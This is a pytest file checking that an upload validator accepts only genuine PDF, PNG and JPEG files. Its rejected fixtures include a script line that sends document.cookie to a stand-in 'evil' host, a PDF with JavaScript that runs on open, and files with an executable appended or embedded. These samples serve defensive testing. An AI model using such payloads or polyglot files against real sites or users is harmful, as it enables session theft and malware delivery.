"""Uploaded files are read whole by a parser of their format (servicekit.uploads)."""

from __future__ import annotations

import io

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from servicekit.uploads import UnacceptableFile, check_file


def pdf(javascript: str | None = None, attachment: bytes | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if javascript:
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject(javascript),
            }
        )
    if attachment:
        writer.add_attachment("payload.exe", attachment)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def image(kind: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), (200, 30, 30)).save(out, format=kind)
    return out.getvalue()


EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64
SCRIPT = b"<html><script>fetch('//evil/'+document.cookie)</script></html>"


def test_a_plain_pdf_png_and_jpeg_are_accepted() -> None:
    check_file(pdf(), "application/pdf")
    check_file(image("PNG"), "image/png")
    check_file(image("JPEG"), "image/jpeg")


@pytest.mark.parametrize(
    ("content", "content_type"),
    [
        pytest.param(b"%PDF-1.7\n" + EXECUTABLE + SCRIPT, "application/pdf", id="pdf-magic-exe"),
        pytest.param(b"%PDF-1.7\n%%EOF\n", "application/pdf", id="pdf-no-body"),
        pytest.param(pdf() + EXECUTABLE, "application/pdf", id="pdf-then-exe"),
        pytest.param(pdf(javascript="app.alert(1)"), "application/pdf", id="pdf-javascript"),
        pytest.param(pdf(attachment=EXECUTABLE), "application/pdf", id="pdf-embedded-file"),
        pytest.param(b"\xff\xd8\xff" + SCRIPT, "image/jpeg", id="jpeg-magic-html"),
        pytest.param(image("JPEG") + SCRIPT, "image/jpeg", id="jpeg-then-html"),
        pytest.param(image("JPEG")[:-200] + b"\xff\xd9", "image/jpeg", id="jpeg-truncated"),
        pytest.param(image("PNG") + b"PK\x03\x04zip", "image/png", id="png-then-zip"),
        pytest.param(image("PNG"), "image/jpeg", id="png-declared-jpeg"),
        pytest.param(b"\x89PNG\r\n\x1a\n" + SCRIPT, "image/png", id="png-magic-html"),
        pytest.param(image("GIF"), "image/gif", id="gif-not-accepted"),
        pytest.param(b"", "application/pdf", id="empty"),
    ],
)
def test_a_file_that_is_not_wholly_what_it_says_is_refused(
    content: bytes, content_type: str
) -> None:
    with pytest.raises(UnacceptableFile):
        check_file(content, content_type)
